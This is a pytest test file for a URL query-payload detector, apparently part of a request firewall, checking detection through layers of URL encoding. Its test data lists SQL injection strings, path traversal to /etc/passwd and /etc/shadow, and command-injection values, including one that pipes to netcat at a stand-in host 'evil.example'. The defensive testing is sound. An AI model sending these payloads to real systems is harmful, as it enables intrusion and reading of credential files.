"""Injection payloads in URL query values and form fields, decoded as a server decodes them."""

from __future__ import annotations

from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aegis.intent_firewall.querypayloads import query_payload_findings


def rules(url: str) -> set[str]:
    return {rule for rule, _ in query_payload_findings(url)}


@pytest.mark.parametrize(
    ("payload", "rule"),
    [
        ("1' OR 1=1--", "sql-injection-shape"),
        ("-1 UNION SELECT username,password FROM users", "sql-injection-shape"),
        ("1 AND SLEEP(5)", "sql-injection-shape"),
        ("x';SELECT pg_sleep(10)--", "sql-injection-shape"),
        ("../../etc/passwd", "path-evasion"),
        ("..\\..\\windows\\win.ini", "path-evasion"),
        ("....//....//etc/hosts", "path-evasion"),
        ("/etc/shadow", "path-evasion"),
        ("127.0.0.1;id", "command-injection-shape"),
        ("127.0.0.1|nc evil.example 4444", "command-injection-shape"),
        ("$(whoami)", "command-injection-shape"),
        ("`uname -a`", "command-injection-shape"),
        ("ls\nid", "command-injection-shape"),
    ],
)
@pytest.mark.parametrize("layers", [0, 1, 2])
def test_payloads_are_found_through_every_layer_of_encoding(
    payload: str, rule: str, layers: int
) -> None:
    value = payload
    for _ in range(layers):
        value = quote(value, safe="")
    assert rule in rules(f"http://localhost:8000/x?a=1&v={value}")


@pytest.mark.parametrize(
    "value",
    ["O'Brien", "O%27Brien", "Mary-Jane", "-created", "rock+%26+roll", "cats%3B+dogs",
     "a+%7C+b", "100%25+cotton", "c%2B%2B", "Don%27t+Stop+Me+Now", "2024-01-01",
     "src/app.py", "what%27s+new%3F", "id;name;email"],
)  # fmt: skip
def test_ordinary_values_pass(value: str) -> None:
    assert rules(f"http://localhost:8000/search?q={value}&page=2") == set()


def test_a_literal_traversal_in_the_path_is_the_clients_business_an_encoded_one_is_not() -> None:
    assert rules("http://localhost:8000/static/..%2f..%2fetc%2fpasswd") == {"path-evasion"}
    assert rules("http://localhost:8000/a/b/c") == set()


@given(st.text(max_size=300))
def test_any_url_gets_an_answer(tail: str) -> None:
    assert isinstance(query_payload_findings("http://h/?" + tail), list)
    assert isinstance(query_payload_findings("http://h/" + quote(tail)), list)
